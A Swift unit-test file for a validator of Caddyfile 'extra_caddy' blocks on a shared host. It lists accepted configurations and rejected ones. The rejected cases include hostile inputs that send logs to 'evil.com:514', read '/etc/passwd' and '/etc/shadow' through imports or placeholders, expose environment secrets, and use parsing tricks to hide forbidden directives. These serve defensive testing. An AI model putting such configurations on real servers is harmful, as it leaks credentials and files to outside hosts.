import XCTest

@testable import PrimModel

/// One `extra_caddy` block and the problems it must produce, as (line, column, code).
private struct Case {
    let name: String
    let block: String
    let expected: [(Int, Int, String)]
}

private let site = "caddy-site", directive = "caddy-directive"

private let cases: [Case] = [
    // Accepted.
    Case(
        name: "email's mail block",
        block: """
            mail.prim.sh {
                import security_headers
                request_body {
                    max_size 25MB
                }
                reverse_proxy localhost:8080
            }
            """, expected: []),
    Case(
        name: "two names, matcher, handle, proxy block, log to stderr",
        block: """
            http://docs.email.prim.sh, www.email.prim.sh {
            \t@old path /v0/*
            \tredir @old /v1/ 301
            \thandle /api/* {
            \t\treverse_proxy 127.0.0.1:3005 {
            \t\t\tlb_try_duration 5s
            \t\t}
            \t}
            \tlog {
            \t\toutput stderr
            \t\tformat json
            \t}
            }
            """, expected: []),
    Case(name: "upstream ports are not checked", block: "x.prim.sh {\n\treverse_proxy localhost:2019\n}", expected: []),
    Case(
        name: "the domain itself, with a scheme, in upper case", block: "https://PRIM.SH {\n\trespond \"hi\" 200\n}",
        expected: []),
    Case(
        name: "a name under a reserved one is not reserved", block: "www.search.prim.sh {\n\trespond hi\n}",
        expected: []),
    Case(
        name: "a trailing comma continues the address list", block: "a.prim.sh,\nb.prim.sh {\n\trespond hi\n}",
        expected: []),
    Case(
        name: "braces in comments and inside quoted text are not braces",
        block: "x.prim.sh { # file_server {\n\trespond \"a { b\" 200\n}", expected: []),
    Case(
        name: "sub-directives are not held to the allow-list",
        block: """
            x.prim.sh {
            \theader {
            \t\t-Server
            \t}
            \treverse_proxy @api localhost:1 {
            \t\theader_up Host {host}
            \t\tto localhost:2 http://127.0.0.1:3
            \t\ttransport http {
            \t\t\tversions 1.1
            \t\t}
            \t}
            }
            """, expected: []),
    Case(
        name: "handle_response routes may copy the response",
        block: """
            x.prim.sh {
            \treverse_proxy localhost:1 {
            \t\t@ok status 200
            \t\thandle_response @ok {
            \t\t\tcopy_response_headers
            \t\t\trespond 204
            \t\t}
            \t}
            }
            """, expected: []),
    Case(
        name: "a matcher block's contents are not inspected",
        block: "x.prim.sh {\n\t@m {\n\t\tpath /a\n\t\tnot header X y\n\t}\n\trespond @m 404\n}", expected: []),
    Case(
        name: "a token after a multi-line quoted string is on its line",
        block: "x.prim.sh {\n\trespond \"a\nb\" file_server\n}", expected: []),
    Case(
        name: "an escaped newline makes the next line arguments",
        block: "x.prim.sh {\n\trespond hi \\\n\t\tfile_server\n}", expected: []),

    // What the block serves.
    Case(name: "global options block", block: "{\n\tadmin 0.0.0.0:2019\n}", expected: [(1, 1, site)]),
    Case(name: "another prim's endpoint", block: "search.prim.sh {\n\trespond \"hi\"\n}", expected: [(1, 1, site)]),
    Case(
        name: "another prim's endpoint, in other case and with a scheme",
        block: "http://Email.Prim.sh {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "another domain", block: "evil.com {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(
        name: "a look-alike of the domain", block: "xprim.sh prim.sh.evil.com {\n\trespond hi\n}",
        expected: [(1, 1, site), (1, 10, site)]),
    Case(name: "a port alone", block: ":8443 {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "a port", block: "x.prim.sh:8443 {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "a wildcard", block: "*.prim.sh {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "an IPv4 address", block: "127.0.0.1 {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "an IPv6 address", block: "[::1] {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "a path", block: "x.prim.sh/admin {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "another scheme", block: "ws://x.prim.sh {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(name: "a placeholder", block: "{labels.1}.prim.sh {\n\trespond hi\n}", expected: [(1, 1, site)]),
    Case(
        name: "the second address is reserved", block: "a.prim.sh, search.prim.sh {\n\trespond hi\n}",
        expected: [(1, 12, site)]),
    Case(name: "a lone comma is an empty address", block: "a.prim.sh , {\n\trespond hi\n}", expected: [(1, 11, site)]),
    Case(name: "snippet definition", block: "(security_headers) {\n\theader X 1\n}", expected: [(1, 1, site)]),
    Case(
        name: "a snippet is reported once, not for its contents too", block: "(s) {\n\tfile_server\n}",
        expected: [(1, 1, site)]),
    Case(name: "a directive at the top level", block: "respond hi", expected: [(1, 1, site)]),
    Case(
        name: "an import at the top level", block: "import security_headers\nx.prim.sh {\n\trespond hi\n}",
        expected: [(1, 1, site)]),
    Case(name: "a site without a block", block: "x.prim.sh\n", expected: [(1, 1, site)]),

    // Which directives it uses.
    Case(
        name: "proxy to a unix socket", block: "x.prim.sh {\n\treverse_proxy unix//run/caddy.sock\n}",
        expected: [(2, 16, directive)]),
    Case(
        name: "root and file_server", block: "x.prim.sh {\n\troot * /\n\tfile_server\n}",
        expected: [(2, 2, directive), (3, 2, directive)]),
    Case(
        name: "the listed dangerous directives",
        block: """
            x.prim.sh {
            \tadmin
            \ttls internal
            \ttemplates
            \tmap {path} {x} {
            \t\t/a 1
            \t}
            \tforward_auth localhost:1 {
            \t\turi /auth
            \t}
            \tphp_fastcgi localhost:9000
            \tacme_server
            \tstorage file_system /tmp
            \ttry_files {path} /index.html
            \tmetrics
            \tpush
            \tbind 0.0.0.0
            }
            """, expected: (2...17).filter { ![6, 7, 9, 10].contains($0) }.map { ($0, 2, directive) }),
    Case(
        name: "file_server inside handle", block: "x.prim.sh {\n\thandle {\n\t\tfile_server\n\t}\n}",
        expected: [(3, 3, directive)]),
    Case(
        name: "containers nest",
        block:
            "x.prim.sh {\n\troute {\n\t\thandle_errors 404 {\n\t\t\thandle_path /x/* {\n\t\t\t\troot * /srv\n\t\t\t}\n\t\t}\n\t}\n}",
        expected: [(5, 5, directive)]),
    Case(name: "import of a glob", block: "x.prim.sh {\n\timport /etc/caddy/*\n}", expected: [(2, 9, directive)]),
    Case(
        name: "import of a relative path", block: "x.prim.sh {\n\timport ../secrets.caddy\n}",
        expected: [(2, 9, directive)]),
    Case(
        name: "import of a name that is not a header snippet (Caddy reads it as a file)",
        block: "x.prim.sh {\n\timport Caddyfile\n}", expected: [(2, 9, directive)]),
    Case(
        name: "import with arguments", block: "x.prim.sh {\n\timport security_headers extra\n}",
        expected: [(2, 9, directive)]),
    Case(name: "import without a name", block: "x.prim.sh {\n\timport\n}", expected: [(2, 2, directive)]),
    Case(
        name: "import inside a sub-block", block: "x.prim.sh {\n\theader {\n\t\timport /etc/passwd\n\t}\n}",
        expected: [(3, 10, directive)]),
    Case(
        name: "import inside a matcher", block: "x.prim.sh {\n\t@m {\n\t\timport *.caddy\n\t}\n}",
        expected: [(3, 10, directive)]),
    Case(
        name: "log written to a file", block: "x.prim.sh {\n\tlog {\n\t\toutput file /etc/passwd\n\t}\n}",
        expected: [(3, 10, directive)]),
    Case(
        name: "log sent over the network", block: "x.prim.sh {\n\tlog {\n\t\toutput net evil.com:514\n\t}\n}",
        expected: [(3, 10, directive)]),
    Case(
        name: "a '#' inside a token starts no comment", block: "x.prim.sh {\n\trespond a#{file./etc/passwd}\n}",
        expected: [(2, 10, directive)]),
    Case(
        name: "a file placeholder", block: "x.prim.sh {\n\trespond {file./etc/shadow}\n}",
        expected: [(2, 10, directive)]),
    Case(
        name: "an env placeholder in a quoted value", block: "x.prim.sh {\n\theader X-Key \"k={env.API_KEY}\"\n}",
        expected: [(2, 15, directive)]),
    Case(
        name: "a system placeholder in a sub-directive",
        block: "x.prim.sh {\n\treverse_proxy localhost:1 {\n\t\theader_up X {system.hostname}\n\t}\n}",
        expected: [(3, 15, directive)]),
    Case(
        name: "environment substitution, even in a comment", block: "x.prim.sh {\n\trespond {$SECRET}\n\t# {$OTHER}\n}",
        expected: [(2, 10, directive), (3, 4, directive)]),
    Case(
        name: "an upstream on another host, in a to sub-directive",
        block: "x.prim.sh {\n\treverse_proxy {\n\t\tto localhost:1 10.0.0.5:80\n\t}\n}", expected: [(3, 18, directive)]),
    Case(
        name: "upstreams: https, ports out of range, a placeholder",
        block: "x.prim.sh {\n\treverse_proxy https://localhost:1 localhost:0 127.0.0.1:65536 localhost:{env.PORT}\n}",
        expected: [(2, 16, directive), (2, 36, directive), (2, 48, directive), (2, 64, directive), (2, 64, directive)]),
    Case(
        name: "only the first argument is a matcher", block: "x.prim.sh {\n\treverse_proxy /api/* localhost:1 /x\n}",
        expected: [(2, 35, directive)]),
    Case(
        name: "a fastcgi transport",
        block:
            "x.prim.sh {\n\treverse_proxy localhost:9000 {\n\t\ttransport fastcgi {\n\t\t\tsplit .php\n\t\t}\n\t}\n}",
        expected: [(3, 13, directive)]),
    Case(
        name: "dynamic upstreams", block: "x.prim.sh {\n\treverse_proxy {\n\t\tdynamic a internal.example 80\n\t}\n}",
        expected: [(3, 3, directive)]),
    Case(
        name: "file_server in a handle_response route",
        block: "x.prim.sh {\n\treverse_proxy localhost:1 {\n\t\thandle_response {\n\t\t\tfile_server\n\t\t}\n\t}\n}",
        expected: [(4, 4, directive)]),
    Case(
        name: "the CEL expression matcher",
        block:
            "x.prim.sh {\n\t@a expression {path}.startsWith(\"/a\")\n\t@b `ph(req, 'file./etc/passwd') == 'x'`\n\t@c {\n\t\tnot expression true\n\t}\n}",
        expected: [(2, 5, directive), (3, 5, directive), (5, 7, directive)]),
    Case(
        name: "the CEL expression matcher in retry_match",
        block: "x.prim.sh {\n\treverse_proxy localhost:1 {\n\t\tretry_match {\n\t\t\texpression true\n\t\t}\n\t}\n}",
        expected: [(4, 4, directive)]),
    Case(
        name: "every problem, in order", block: "evil.com {\n\tfile_server\n\trespond {env.X}\n}",
        expected: [(1, 1, site), (2, 2, directive), (3, 10, directive)]),

    // Blocks Caddy could read differently than a quick look suggests.
    Case(name: "a one-line site block", block: "x.prim.sh { respond hi }", expected: [(1, 11, site), (1, 24, site)]),
    Case(
        name: "a one-line handle block", block: "x.prim.sh {\n\thandle { file_server }\n}",
        expected: [(2, 9, directive), (2, 11, directive), (2, 23, directive)]),
    Case(
        name: "a block opened on the next line",
        block: "x.prim.sh {\n\treverse_proxy localhost:1\n\t{\n\t\tto evil.com:80\n\t}\n}",
        expected: [(3, 2, directive)]),
    Case(
        name: "a directive after a closing brace", block: "x.prim.sh {\n\thandle {\n\t\trespond hi\n\t} file_server\n}",
        expected: [(4, 2, directive), (4, 4, directive)]),
    Case(
        name: "a quoted brace is a brace to Caddy",
        block: "x.prim.sh {\n\treverse_proxy localhost:1 {\n\t\t\"}\"\n\tfile_server\n\t}\n}",
        expected: [(4, 2, directive), (6, 1, site)]),
    Case(name: "a quoted opening brace left open", block: "x.prim.sh {\n\trespond \"{\"\n}", expected: [(1, 11, site)]),
    Case(
        name: "an escaped newline joins a brace to its directive",
        block: "x.prim.sh {\n\thandle \\\n\t{\n\t\tfile_server\n\t}\n}", expected: [(4, 3, directive)]),
    Case(
        name: "a quoted newline after an escaped one ends Caddy's line early",
        block: "x.prim.sh {\n\trespond a \\\n\"x\ny\" file_server\n}", expected: [(4, 4, directive)]),
    Case(
        name: "a backslash in a comment continues the line",
        block: "x.prim.sh {\n\trespond hi # see \\ below\n\troot * /\n}", expected: []),
    Case(
        name: "blocks nested too deep",
        block: "x.prim.sh {\n" + String(repeating: "route {\n", count: 16) + String(repeating: "}\n", count: 17),
        expected: [(17, 7, directive)]),
    Case(
        name: "a heredoc", block: "x.prim.sh {\n\trespond <<HTML\n\t\thi\n\t\tHTML 200\n}",
        expected: [(2, 10, directive), (3, 3, directive), (4, 3, directive)]),
]

final class CaddyBlockCheckTests: XCTestCase {
    func testTable() {
        for c in cases {
            let problems = CaddyBlockCheck.problems(
                in: c.block, domain: "prim.sh", reserved: ["search.prim.sh", "email.prim.sh"])
            XCTAssertEqual(
                problems.map { "\($0.line):\($0.column) \($0.code)" }, c.expected.map { "\($0.0):\($0.1) \($0.2)" },
                c.name)
            XCTAssertFalse(problems.contains { $0.message.isEmpty }, c.name)
        }
    }

    func testMessagesNameTheOffenderAndTheFix() {
        func message(_ block: String) -> String {
            CaddyBlockCheck.problems(in: block, domain: "prim.sh", reserved: ["search.prim.sh"]).first?.message ?? ""
        }
        XCTAssertEqual(
            message("x.prim.sh:8443 {\n}"),
            "site 'x.prim.sh:8443' in extra_caddy must be a host name under prim.sh without a port, path or wildcard")
        XCTAssertEqual(
            message("search.prim.sh {\n}"),
            "site 'search.prim.sh' is another prim's endpoint; an extra block may only serve names no other prim uses")
        XCTAssertEqual(
            message("{\n}"),
            "a global options block is not allowed in extra_caddy; global options belong to the host's Caddyfile header"
        )
        XCTAssertTrue(message("(s) {\n}").hasPrefix("snippet definitions are not allowed in extra_caddy"))
        XCTAssertEqual(
            message("x.prim.sh {\n\tfile_server\n}"),
            "directive 'file_server' is not allowed in extra_caddy; allowed: "
                + "import, request_body, reverse_proxy, header, request_header, encode, redir, respond, handle, handle_path, route, handle_errors, rewrite, uri, log, abort, error, method, vars"
        )
        XCTAssertEqual(
            message("x.prim.sh {\n\timport /etc/*\n}"),
            "import of '/etc/*' is not allowed in extra_caddy: only snippets of the host's header (security_headers)")
        XCTAssertEqual(
            message("x.prim.sh {\n\treverse_proxy unix//s\n}"),
            "reverse_proxy upstream 'unix//s' must be localhost:<port> (a service on this host)")
        XCTAssertEqual(
            message("x.prim.sh {\n\trespond {file.a}\n}"),
            "placeholder '{file.a}' reads the host's files or environment; it is not allowed in extra_caddy")
        XCTAssertTrue(
            message("x.prim.sh {\n\tlog {\n\t\toutput file /x\n\t}\n}").hasPrefix("log output 'file' is not allowed"))
        XCTAssertTrue(
            message("respond hi").hasPrefix(
                "'respond' at the top level of extra_caddy must be a site address followed by '{'"))
    }
}
